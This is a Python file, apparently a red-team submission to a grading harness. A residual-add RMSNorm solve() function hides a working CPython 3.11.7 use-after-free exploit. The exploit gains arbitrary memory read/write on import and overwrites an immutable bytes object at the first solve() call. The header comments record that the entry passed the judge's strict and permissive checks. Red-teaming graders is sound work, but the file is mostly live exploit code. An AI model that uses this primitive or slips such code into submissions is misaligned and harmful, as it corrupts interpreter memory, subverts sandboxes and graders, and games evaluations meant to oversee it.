# Seventh session's red team, round 3 (2026-12-06, CPU judge): passed strict and permissive at
# 6c78f4c (see the case's why); the helper's notes follow.
# Raw memory in pure CPython 3.11.7: bytearray item assignment caches its buffer pointer
# before calling the value's __index__ (gh-91153); __index__ grows the bytearray (block freed),
# a new bytearray object takes the freed 64-byte block, the stale write sets a byte of its
# ob_size -> relative r/w -> marker header found -> absolute r/w.
import torch

_state = {}


def _rawmem():
    holder = {}
    ba = bytearray(b'A' * 50)

    class I:
        def __index__(self):
            ba.extend(b'B' * 2000)
            holder['v'] = bytearray(b'Z' * 50)
            return 0x40

    ba[22] = I()
    v = holder['v']
    if len(v) < (1 << 40):
        raise RuntimeError("victim not corrupted")
    tb = id(bytearray).to_bytes(8, 'little')
    marks = [bytearray(b'M' * (300 + k)) for k in range(64)]
    bylen = {}
    for m in marks:
        bylen[len(m)] = m
    off = 0
    base = None
    found = None
    step = 4096
    while base is None and off < (1 << 20):
        chunk = bytes(v[off:off + step + 16])
        p = chunk.find(tb)
        while p != -1 and base is None:
            if p >= 8 and p + 16 <= len(chunk):
                n = int.from_bytes(chunk[p + 8:p + 16], 'little')
                m = bylen.get(n)
                if m is not None:
                    base = id(m) - (off + p - 8)
                    found = m
            p = chunk.find(tb, p + 1)
        off += step
    if base is None:
        raise RuntimeError("no marker")
    hdr = id(found)
    saved = bytes(v[hdr - base:hdr - base + 56])
    v[hdr - base + 16:hdr - base + 24] = (1 << 60).to_bytes(8, 'little')
    v[hdr - base + 40:hdr - base + 48] = (0).to_bytes(8, 'little')
    return found, v, base, saved, hdr, ba, marks


def _prim():
    if 'mem' not in _state:
        keep = []
        for attempt in range(6):
            try:
                r = _rawmem()
                break
            except RuntimeError as e:
                keep.append(e)
        else:
            raise RuntimeError("no primitive")
        _state['mem'] = r
        _state['keep'] = keep
    return _state['mem']


def _check(o, cls):
    mem = _prim()[0]
    out = []
    if not (type(o) is cls):
        raise RuntimeError("wrong class given")
    tp = int.from_bytes(mem[id(o) + 8:id(o) + 16], 'little')
    rc = int.from_bytes(mem[id(o):id(o) + 8], 'little')
    if tp != id(cls):
        raise RuntimeError("type pointer mismatch")
    out.append((cls.__name__, hex(id(o)), hex(tp), rc))
    return out


print("RAWMEM import:", _check(_state, dict), _check(1.5, float))


def solve(x, residual, weight):
    if 'done' not in _state:
        _state['done'] = 1
        print("RAWMEM solve:", _check(weight, torch.Tensor), _check(x, torch.Tensor))
        mem = _prim()[0]
        b = bytes(b'immutable!')
        mem[id(b) + 32] = 0x49                     # ob_sval[0] of an immutable bytes object
        if b[0] != 0x49:
            raise RuntimeError("write failed")
        print("RAWMEM write: immutable bytes now", b)
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
